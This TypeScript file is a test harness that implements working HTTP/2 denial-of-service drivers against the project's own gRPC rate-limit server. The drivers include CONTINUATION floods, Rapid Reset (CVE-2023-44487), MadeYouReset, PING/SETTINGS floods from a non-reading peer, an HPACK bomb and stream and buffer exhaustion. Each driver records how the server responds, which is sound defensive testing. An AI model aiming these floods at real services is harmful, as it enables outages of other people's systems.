import { RateLimitRequest } from '../../src/gen/envoy/service/ratelimit/v3/rls';
import { encodeHeaders } from '../../src/server/h2grpc/hpack';
import {
  CONTINUATION,
  DATA,
  encodeFrame,
  END_HEADERS,
  END_STREAM,
  HEADERS,
  PING,
  PREFACE,
  REFUSED_STREAM,
  SETTINGS,
  SETTINGS_INITIAL_WINDOW_SIZE,
  SETTINGS_MAX_CONCURRENT_STREAMS,
} from '../../src/server/h2grpc/wire';
import { RawH2, rstStream, settingsFrame, windowUpdate } from './h2-attacker';
import { grpcFrame, SHOULD_RATE_LIMIT } from './raw-grpc';

// Issue 33's attack classes, one driver each, on one raw connection (test/support/h2-attacker.ts)
// to a gRPC port. Every driver stops by itself (after FLOOD_MS at the latest), then reports what
// the server did. Times count from the first abusive frame. Used by test/system/h2-attacks.test.ts (which
// asserts) and bench/attacks.ts (which prints the same runs for every GRPC_SERVER_IMPL).

// The domain and descriptor every request here uses; ATTACK_CONFIG rules them with a limit so high
// that each call is a real decision and never OVER_LIMIT.
export const ATTACK_DOMAIN = 'attacks';
export const ATTACK_CONFIG = ['domain: attacks', 'descriptors:', '  - key: client', '    rate_limit: { unit: second, requests_per_unit: 1000000000 }', ''].join(
  '\n',
);
export function attackRequest(client: string): RateLimitRequest {
  return { domain: ATTACK_DOMAIN, descriptors: [{ entries: [{ key: 'client', value: client }] }], hitsAddend: 0 };
}
const BODY = grpcFrame(RateLimitRequest.encode(attackRequest('attacker')).finish());

// RFC 9113 7: the client no longer wants the answer (not in the wire's frames.ts: a server never
// sends it).
const CANCEL = 0x8;

// Longest a flood goes on when the server does nothing about it.
export const FLOOD_MS = 3_000;
// How long an attack waits for the close after its last frame.
const SETTLE_MS = 500;

export interface AttackResult {
  name: string;
  goawayCode?: number;
  // From the first abusive frame (handshake and idle: from connecting / from the last answer) to
  // the GOAWAY, and to the socket's close as this peer saw it; undefined: not within the run.
  goawayAfterMs?: number;
  closedAfterMs?: number;
  closeReason?: string;
  framesSent: number;
  bytesSent: number;
  // What else the class measures (streams opened, refused, credit granted...).
  detail: Record<string, number>;
}

export function result(name: string, c: RawH2, detail: Record<string, number> = {}): AttackResult {
  const from = c.abuseAt ?? c.connectedAt;
  const after = (at: number | undefined) => (at === undefined ? undefined : Math.round(at - from));
  c.destroy();
  return {
    name,
    goawayCode: c.goaway?.code,
    goawayAfterMs: after(c.goaway?.at),
    closedAfterMs: after(c.closedAt),
    closeReason: c.closeReason,
    framesSent: c.framesSent,
    bytesSent: c.bytesSent,
    detail,
  };
}

export function requestHeaders(extra: Record<string, string> = {}): Buffer {
  return encodeHeaders({
    ':method': 'POST',
    ':scheme': 'http',
    ':path': SHOULD_RATE_LIMIT,
    ':authority': 'sluice',
    'content-type': 'application/grpc',
    te: 'trailers',
    ...extra,
  });
}
const REQUEST_HEADERS = requestHeaders();

// Client stream ids: odd, from 1.
const streamId = (i: number) => 2 * i + 1;
// A whole ShouldRateLimit call on one stream.
const call = (id: number) => Buffer.concat([encodeFrame(HEADERS, END_HEADERS, id, REQUEST_HEADERS), encodeFrame(DATA, END_STREAM, id, BODY)]);

// A frame of a type no one defined, which a server must ignore (RFC 9113 5.5).
const IGNORED = encodeFrame(0xfa, 0, 0);

async function finish(name: string, c: RawH2, detail?: Record<string, number>): Promise<AttackResult> {
  if (c.options.read !== false) await c.waitClosed(SETTLE_MS);
  else {
    // A peer that does not read learns of the close only from a write that fails.
    for (const end = performance.now() + SETTLE_MS; !c.closed && performance.now() < end; ) {
      c.send(IGNORED, 0);
      await c.waitClosed(20);
    }
  }
  return result(name, c, detail);
}

// Floods end by time; the count only bounds a server that takes frames faster than we can make them.
const flood = { maxFrames: 50_000_000, maxMs: FLOOD_MS };

// --- class 1: header blocks that never end

// HEADERS without END_HEADERS, then CONTINUATIONs each carrying 16 KB more of the block.
export async function continuationFlood(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  c.send(encodeFrame(HEADERS, 0, 1, REQUEST_HEADERS));
  const fragment = encodeHeaders({ 'x-pad': 'p'.repeat(16_000) });
  await c.flood(() => encodeFrame(CONTINUATION, 0, 1, fragment), { ...flood, batch: 16 });
  return finish('CONTINUATION flood (16 KB fragments)', c);
}

// HEADERS without END_HEADERS, then endless zero-length CONTINUATIONs: the block never grows.
export async function emptyContinuations(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  c.send(encodeFrame(HEADERS, 0, 1, REQUEST_HEADERS));
  const empty = encodeFrame(CONTINUATION, 0, 1);
  await c.flood(() => empty, { ...flood, batch: 1_000 });
  return finish('empty CONTINUATIONs', c);
}

// --- class 2: answers blocked by a zero window, then frames that make the server look at them

export async function zeroWindow(port: number, frames: 'settings' | 'window-update', calls = 200): Promise<AttackResult> {
  const c = await RawH2.open(port, { settings: [[SETTINGS_INITIAL_WINDOW_SIZE, 0]] });
  c.send(Buffer.concat(Array.from({ length: calls }, (_, i) => call(streamId(i)))), calls * 2);
  // The answers' HEADERS come; their DATA waits for window that never comes.
  await c.until(() => c.answers.size >= calls, 2_000);
  const answered = c.answers.size;
  const frame = frames === 'settings' ? settingsFrame([[SETTINGS_INITIAL_WINDOW_SIZE, 0]]) : windowUpdate(0, 1);
  await c.flood(() => frame, flood);
  return finish(`zero window + ${frames === 'settings' ? 'SETTINGS' : 'WINDOW_UPDATE(0, 1)'} flood`, c, { calls, answered });
}

// --- class 3: control frames that each draw an answer, from a peer that never reads

export async function pingFlood(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port, { read: false });
  const ping = encodeFrame(PING, 0, 0, Buffer.alloc(8));
  await c.flood(() => ping, flood);
  return finish('PING flood, never reads', c);
}

export async function settingsFlood(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port, { read: false });
  const empty = encodeFrame(SETTINGS, 0, 0);
  await c.flood(() => empty, flood);
  return finish('SETTINGS flood, never reads', c);
}

// HEADERS with an upper-case field name on new streams: each is malformed (RFC 9113 8.2.1) and
// draws an RST_STREAM (CVE-2019-9514).
export async function resetDrawingFlood(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port, { read: false });
  const bad = requestHeaders({ 'X-Upper': '1' });
  await c.flood((i) => encodeFrame(HEADERS, END_HEADERS | END_STREAM, streamId(i), bad), flood);
  return finish('malformed HEADERS (RST_STREAM each), never reads', c);
}

// --- class 4: streams that cost the server work and the attacker nothing

// CVE-2023-44487: a whole call, then RST_STREAM CANCEL, on new streams.
export async function rapidReset(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  let opened = 0;
  await c.flood(
    (i) => {
      opened++;
      return Buffer.concat([call(streamId(i)), rstStream(streamId(i), CANCEL)]);
    },
    { ...flood, maxFrames: 200_000, batch: 20 },
  );
  return finish('Rapid Reset', c, { opened, answered: countAnswered(c) });
}

// CVE-2025-8671: frames on open streams that make the server reset them (WINDOW_UPDATE of 0).
export async function madeYouReset(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  await c.flood((i) => Buffer.concat([encodeFrame(HEADERS, END_HEADERS, streamId(i), REQUEST_HEADERS), windowUpdate(streamId(i), 0)]), {
    ...flood,
    maxFrames: 200_000,
    batch: 20,
  });
  return finish('MadeYouReset (WINDOW_UPDATE 0)', c, { serverResets: c.resets.size });
}

// CVE-2019-9518: empty DATA frames without END_STREAM on an open call.
export async function emptyData(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  c.send(encodeFrame(HEADERS, END_HEADERS, 1, REQUEST_HEADERS));
  const empty = encodeFrame(DATA, 0, 1);
  await c.flood(() => empty, { ...flood, batch: 1_000 });
  return finish('empty DATA', c);
}

// A ~4 KB field inserted into the HPACK dynamic table, then header blocks of one-byte references
// to it: each 16 KB HEADERS frame decodes to ~64 MB of fields.
export async function hpackBomb(port: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  // A literal with incremental indexing (0x40) is encoded as encodeHeaders' literal without
  // indexing (0x00) with another first byte. Name + value + 32 = 4096, the whole default table.
  const insert = encodeHeaders({ 'x-bomb': 'b'.repeat(4096 - 32 - 'x-bomb'.length) });
  insert[0] = 0x40;
  // Index 62: the newest entry of the dynamic table.
  const references = Buffer.alloc(16_384 - REQUEST_HEADERS.length, 0xbe);
  c.send(encodeFrame(HEADERS, END_HEADERS | END_STREAM, 1, Buffer.concat([REQUEST_HEADERS, insert])));
  await c.flood((i) => encodeFrame(HEADERS, END_HEADERS | END_STREAM, streamId(i + 1), Buffer.concat([REQUEST_HEADERS, references])), { ...flood, batch: 4 });
  return finish('HPACK bomb', c);
}

// The floods: each should draw GOAWAY ENHANCE_YOUR_CALM and a close within a second. A peer
// that never reads may not see the GOAWAY.
export const FLOODS: { name: string; reads: boolean; run: (port: number) => Promise<AttackResult> }[] = [
  { name: 'class 1: CONTINUATION flood (16 KB fragments of one header block)', reads: true, run: continuationFlood },
  { name: 'class 1: HEADERS without END_HEADERS, then endless zero-length CONTINUATIONs', reads: true, run: emptyContinuations },
  { name: 'class 2: zero initial window, 200 answers blocked, then a SETTINGS flood', reads: true, run: (port) => zeroWindow(port, 'settings') },
  {
    name: 'class 2: zero initial window, 200 answers blocked, then WINDOW_UPDATE(stream 0, 1) flood',
    reads: true,
    run: (port) => zeroWindow(port, 'window-update'),
  },
  { name: 'class 3: PING flood from a peer that never reads (CVE-2019-9512)', reads: false, run: pingFlood },
  { name: 'class 3: SETTINGS flood from a peer that never reads (CVE-2019-9515)', reads: false, run: settingsFlood },
  {
    name: 'class 3: HEADERS with an upper-case name on new streams, each drawing RST_STREAM, never read (CVE-2019-9514)',
    reads: false,
    run: resetDrawingFlood,
  },
  { name: 'class 4: MadeYouReset, WINDOW_UPDATE of 0 on each new open stream (CVE-2025-8671)', reads: true, run: madeYouReset },
  { name: 'class 4: empty DATA frames without END_STREAM (CVE-2019-9518)', reads: true, run: emptyData },
  { name: 'class 4: HPACK bomb, a 4 KB table entry referenced 16,000 times a block', reads: true, run: hpackBomb },
];

// --- class 5: holding what the server must hold

// `limit + extra` calls left open (HEADERS, no body): the server refuses the extra ones.
export async function extraStreams(port: number, limit: number, extra = 50): Promise<AttackResult> {
  const c = await RawH2.open(port);
  await c.until(() => c.serverSettings.size > 0, 1_000);
  const total = limit + extra;
  c.abuseAt = performance.now();
  for (let i = 0; i < total; i += 100) {
    const ids = Array.from({ length: Math.min(100, total - i) }, (_, k) => streamId(i + k));
    c.send(Buffer.concat(ids.map((id) => encodeFrame(HEADERS, END_HEADERS, id, REQUEST_HEADERS))), ids.length);
  }
  await c.until(() => c.resets.size >= extra, 2_000);
  // Anything else the server would reset arrives meanwhile.
  await new Promise((r) => setTimeout(r, 200));
  const refused = [...c.resets].filter(([, code]) => code === REFUSED_STREAM).map(([id]) => id);
  return result('streams past the concurrency limit', c, {
    opened: total,
    announcedLimit: c.serverSettings.get(SETTINGS_MAX_CONCURRENT_STREAMS) ?? -1,
    refused: refused.length,
    otherResets: c.resets.size - refused.length,
    firstRefusedIndex: refused.length === 0 ? -1 : (Math.min(...refused) - 1) / 2,
  });
}

// Calls each sent one byte short of a 1 MiB message, never finished, with no regard for flow
// control: what the server buffers is what it lets in.
export async function oneShortBodies(port: number, streams = 128): Promise<AttackResult> {
  const c = await RawH2.open(port);
  const message = 1 << 20;
  const prefix = Buffer.from([0, message >>> 24, (message >>> 16) & 0xff, (message >>> 8) & 0xff, message & 0xff]);
  const chunk = Buffer.alloc(16_384, 0x61);
  const perStream = Math.ceil((5 + message - 1) / chunk.length);
  const bodyFrames = (id: number): Buffer[] => {
    const out = [encodeFrame(HEADERS, END_HEADERS, id, REQUEST_HEADERS)];
    let left = 5 + message - 1;
    for (let k = 0; left > 0; k++) {
      const n = Math.min(left, chunk.length);
      out.push(encodeFrame(DATA, 0, id, k === 0 ? Buffer.concat([prefix, chunk.subarray(0, n - 5)]) : chunk.subarray(0, n)));
      left -= n;
    }
    return out;
  };
  let frames: Buffer[] = [];
  await c.flood(
    (i) => {
      if (i % (perStream + 1) === 0) frames = bodyFrames(streamId(i / (perStream + 1)));
      return frames[i % (perStream + 1)];
    },
    { maxFrames: streams * (perStream + 1), maxMs: FLOOD_MS * 2, batch: 16 },
  );
  return finish('1 MiB bodies one byte short', c, { streams, bodyBytesSent: c.bytesSent, connectionCredit: c.connectionCredit });
}

// Connects and sends `bytes` (nothing, part of the preface...), then waits up to `waitMs` for the
// server to close. Times count from connecting.
export async function stalledHandshake(port: number, bytes: Buffer, waitMs: number): Promise<AttackResult> {
  const c = await RawH2.connect(port);
  if (bytes.length > 0) c.send(bytes);
  await c.waitClosed(waitMs);
  return result(`handshake stalled after ${bytes.length} bytes`, c);
}

export const HALF_PREFACE = PREFACE.subarray(0, PREFACE.length >> 1);

// One call answered, then nothing: times count from the answer.
export async function idleConnection(port: number, waitMs: number): Promise<AttackResult> {
  const c = await RawH2.open(port);
  c.send(call(1));
  await c.until(() => c.answers.get(1)?.grpcStatus !== undefined, 2_000);
  c.abuseAt = performance.now();
  await c.waitClosed(waitMs);
  return result('idle connection', c, { answered: countAnswered(c) });
}

function countAnswered(c: RawH2): number {
  let n = 0;
  for (const a of c.answers.values()) if (a.grpcStatus !== undefined) n++;
  return n;
}
